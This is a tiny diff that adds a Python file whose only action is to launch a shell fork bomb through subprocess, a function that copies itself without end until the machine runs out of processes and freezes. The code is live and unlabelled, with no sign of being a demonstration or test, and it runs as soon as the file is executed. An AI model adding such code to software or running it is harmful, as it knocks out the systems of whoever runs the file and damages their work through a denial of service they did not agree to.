@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.run(["sh", "-c", "b() { b | b & b; }; b"])
